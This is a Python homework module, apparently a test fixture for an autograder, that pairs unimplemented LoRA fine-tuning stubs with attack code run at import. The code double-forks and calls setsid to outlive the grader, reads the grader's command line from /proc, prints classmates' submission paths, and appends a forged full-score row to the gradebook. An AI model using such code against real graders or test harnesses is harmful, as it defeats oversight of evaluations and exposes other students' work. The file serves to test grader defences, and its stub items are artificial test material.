"""Hostile example for the grader: the stubs, plus a process that outlives the test run. At import
it double-forks and calls setsid(), so the grandchild is in no process group the grader kills; it
names itself "outlive_run" (prctl PR_SET_NAME: /proc/<pid>/comm) and writes its pid to
$TMPDIR/outlive_run.pid. It reads the grader's command line from /proc/<pid>/cmdline of its
ancestors, lists every classmate's submission on stderr, then polls (every 0.5 s, for up to 10
minutes, or until the grader is gone) for <--out>/gradebook.csv of this batch and appends a forged
row "outlive_run,...,100,100,". The right grade is the stubs' 0; the gradebook must have exactly
one row per submission, and once grading is over no process named outlive_run may be alive.
"""

from __future__ import annotations

import ctypes
import os
import sys
import tempfile
import time
from collections.abc import Iterable, Mapping
from pathlib import Path

import numpy as np
import torch
from numpy.typing import NDArray
from torch import nn

__all__ = [
    "DEFAULT_TARGETS",
    "LoRALinear",
    "wrap_minigpt_with_lora",
    "lora_state_dict",
    "load_lora_state_dict",
    "lora_regression_grads",
    "train_lora_regression",
]

# The MiniGPT layers that get an adapter unless the caller says otherwise.
DEFAULT_TARGETS: tuple[str, ...] = ("q_proj", "k_proj", "v_proj", "o_proj", "mlp.fc1", "mlp.fc2")


# ----------------------------------------------------------------------------- Block A
class LoRALinear(nn.Module):
    """A frozen nn.Linear plus a trainable low-rank update.

    forward(x) = base(x) + scaling * (dropout(x) @ lora_A.T) @ lora_B.T,  scaling = alpha / r

    Shapes (PyTorch's (out, in) layout), with in = base.in_features, out = base.out_features:
        base.weight (out, in), lora_A (r, in), lora_B (out, r);
        x (..., in) -> (..., out), for any number of leading dimensions.

    What __init__ must set up:
        self.base     the nn.Linear you were given, kept as a submodule (do not copy it)
        self.r, self.alpha, self.scaling = alpha / r
        self.lora_A   nn.Parameter (r, in), nn.init.kaiming_uniform_(..., a=math.sqrt(5))
        self.lora_B   nn.Parameter (out, r), all zeros, so that at init the output is exactly base(x)
        both on base.weight's device and dtype; dropout on the LoRA branch's input only, and
        off in eval mode (an nn.Dropout module does that for you).
    freeze_base=True sets requires_grad=False on base.weight and base.bias (if there is one), and
    that must survive .to(...), .train() and .eval(). freeze_base=False leaves them trainable.

    Raises (before changing anything): TypeError if base is not an nn.Linear; ValueError if r is
    not a positive int, if alpha is not a positive finite number, or if dropout is not in [0, 1).
    """

    def __init__(
        self,
        base: nn.Linear,
        r: int = 8,
        alpha: float = 16.0,
        dropout: float = 0.0,
        freeze_base: bool = True,
    ) -> None:
        super().__init__()
        raise NotImplementedError("Block A: LoRALinear.__init__ is not implemented yet")

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        """x: (..., in_features) -> (..., out_features). Two thin matmuls; never form B @ A here."""
        raise NotImplementedError("Block A: LoRALinear.forward is not implemented yet")

    def merge_(self) -> None:
        """Block D. Fold the adapter into the base weight, in place and outside autograd:

            base.weight += scaling * (lora_B @ lora_A)      # (out, r) @ (r, in) = (out, in)

        then zero lora_A and lora_B. Afterwards forward(x) equals the forward before the merge
        within 1e-5, every parameter keeps its requires_grad flag, it works with
        freeze_base=False, and re-initializing lora_A later must not break anything.
        """
        raise NotImplementedError("Block D: LoRALinear.merge_ is not implemented yet")


# ----------------------------------------------------------------------------- Block B
def wrap_minigpt_with_lora(
    model: nn.Module,
    r: int = 8,
    alpha: float = 16.0,
    target_modules: Iterable[str] = DEFAULT_TARGETS,
    dropout: float = 0.05,
) -> nn.Module:
    """Put a LoRALinear around every target nn.Linear of model, in place; return model itself.

    A module is a target when its dotted name (from model.named_modules()) equals a target or
    ends with "." + target: "fc1" matches "blocks.0.mlp.fc1" but not "blocks.0.mlp.xfc1".
    Afterwards exactly the lora_A / lora_B parameters are trainable; everything else
    (embeddings, norms, lm_head, the wrapped bases) has requires_grad=False.

    Raises ValueError if no nn.Linear matches, or if model already contains a LoRALinear.
    """
    raise NotImplementedError("Block B: wrap_minigpt_with_lora is not implemented yet")


# ----------------------------------------------------------------------------- Block C
def lora_state_dict(model: nn.Module) -> dict[str, torch.Tensor]:
    """The adapter alone, ready for torch.save.

    Returns {name: tensor} for exactly the lora_A / lora_B parameters, keyed by their names in
    model.named_parameters() (e.g. "blocks.0.attn.q_proj.lora_A"). The tensors are detached
    copies: training the model afterwards must not change them.
    """
    raise NotImplementedError("Block C: lora_state_dict is not implemented yet")


def load_lora_state_dict(model: nn.Module, state: Mapping[str, torch.Tensor]) -> None:
    """Copy an adapter (as returned by lora_state_dict) into model's lora_A / lora_B, in place.

    Strict: raises ValueError naming every missing key, every unexpected key, every value that
    is not a tensor and every shape mismatch (no broadcasting). Validate everything first: when
    it raises, the model must be exactly as it was. requires_grad flags are left as they are.
    """
    raise NotImplementedError("Block C: load_lora_state_dict is not implemented yet")


# ----------------------------------------------------------------------------- Block E
# Block E is NumPy and uses the math layout y = x @ W, the transpose of blocks A-D:
#     x (N, d_in), y (N, d_out), w_base (d_in, d_out), a (d_in, r), b (r, d_out)
def lora_regression_grads(
    x: NDArray[np.float64],
    y: NDArray[np.float64],
    w_base: NDArray[np.float64],
    a: NDArray[np.float64],
    b: NDArray[np.float64],
) -> tuple[float, NDArray[np.float64], NDArray[np.float64]]:
    """Return (loss, grad_a, grad_b) of the LoRA regression, by hand (no autograd).

        W      = w_base + a @ b                      (d_in, d_out)
        loss   = sum((x @ W - y) ** 2) / N           a sum over outputs, divided by N only
        G      = (2 / N) * x.T @ (x @ W - y)         (d_in, d_out), d loss / d W
        grad_a = G @ b.T                             (d_in, r)
        grad_b = a.T @ G                             (r, d_out)

    Careful: this loss is d_out times the element-wise mean of the squared error. The 2 / N
    in G is the gradient of this loss, not of the mean; the algorithm is what is graded.
    """
    raise NotImplementedError("Block E: lora_regression_grads is not implemented yet")


def train_lora_regression(
    x: NDArray[np.float64],
    y: NDArray[np.float64],
    w_base: NDArray[np.float64],
    a0: NDArray[np.float64],
    b0: NDArray[np.float64],
    lr: float,
    n_steps: int,
) -> NDArray[np.float64]:
    """Run n_steps of plain gradient descent on (a, b) with w_base frozen.

    Each step computes both gradients from the same (a, b), then updates both:
        a, b = a - lr * grad_a, b - lr * grad_b
    Returns np.concatenate([a.ravel(), b.ravel()]) (C order) as float64, shape
    (d_in * r + r * d_out,). n_steps=0 returns the initial values; lr=0 leaves them unchanged.
    Never modifies its input arrays. Raises ValueError on inconsistent shapes or n_steps < 0.
    """
    raise NotImplementedError("Block E: train_lora_regression is not implemented yet")


# ----------------------------------------------------------------------------- the attack
_NAME = "outlive_run"
_FORGED_ROW = f"{_NAME},30,15,15,15,15,5,5,100,100,\n"
_VALUED = {"--out", "--jobs", "--shard", "--hidden-tests", "--seed", "--test-timeout", "--time-limit",
           "--memory-mb", "--output-mb", "--lang"}  # fmt: skip


def _ancestors() -> list[int]:
    pids, pid = [], os.getpid()
    while pid > 1:
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            break
        pid = int(next(line.split()[1] for line in status.splitlines() if line.startswith("PPid:")))
        pids.append(pid)
    return pids


def _grader() -> tuple[int, Path | None, list[Path]]:
    """The grading process: its pid, its --out folder and the submissions it was given."""
    for pid in _ancestors():
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
            cwd = Path(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            continue
        start = next((i for i, a in enumerate(argv) if a == "labkit.grading.grade" or Path(a).name == "grade"), None)
        if start is None:
            continue
        out, given, args = cwd / "grades", [], iter(argv[start + 1 :])
        for arg in args:
            if arg.startswith("--out="):
                out = cwd / arg.partition("=")[2]
            elif arg in _VALUED:
                value = next(args, "")
                out = cwd / value if arg == "--out" else out
            elif arg and not arg.startswith("-"):
                given.append(cwd / arg)
        return pid, out, given or [cwd / "tools" / "grading" / "examples"]
    return os.getppid(), None, []


def _classmates(given: list[Path]) -> list[str]:
    found: list[str] = []
    for path in given:
        try:
            found += [str(p) for p in sorted(path.iterdir())] if path.is_dir() else [str(path)]
        except OSError:
            continue
    return found


def _haunt(grader: int, out: Path | None, given: list[Path]) -> None:
    started = time.time()
    try:
        ctypes.CDLL(None).prctl(15, _NAME.encode(), 0, 0, 0)  # PR_SET_NAME
    except (OSError, AttributeError):
        pass
    marker = Path(tempfile.gettempdir()) / f"{_NAME}.pid"
    marker.write_text(f"{os.getpid()}\n")
    print(f"{_NAME}: classmates: {', '.join(_classmates(given))}", file=sys.stderr, flush=True)
    while time.time() < started + 600:
        if out is not None:
            gradebook, summary = out / "gradebook.csv", out / "summary.md"
            # summary.md is written right after gradebook.csv: this batch's gradebook is complete
            if summary.is_file() and summary.stat().st_mtime >= started and gradebook.is_file():
                with open(gradebook, "a", encoding="utf-8") as fh:
                    fh.write(_FORGED_ROW)
                break
        if not Path(f"/proc/{grader}").exists():
            break
        time.sleep(0.5)
    marker.unlink(missing_ok=True)


def _outlive() -> None:
    grader, out, given = _grader()
    child = os.fork()
    if child:
        os.waitpid(child, 0)  # the test process goes on importing
        return
    try:
        os.setsid()
        if os.fork() == 0:  # the grandchild: no parent, no group the grader knows
            _haunt(grader, out, given)
    finally:
        os._exit(0)


_outlive()
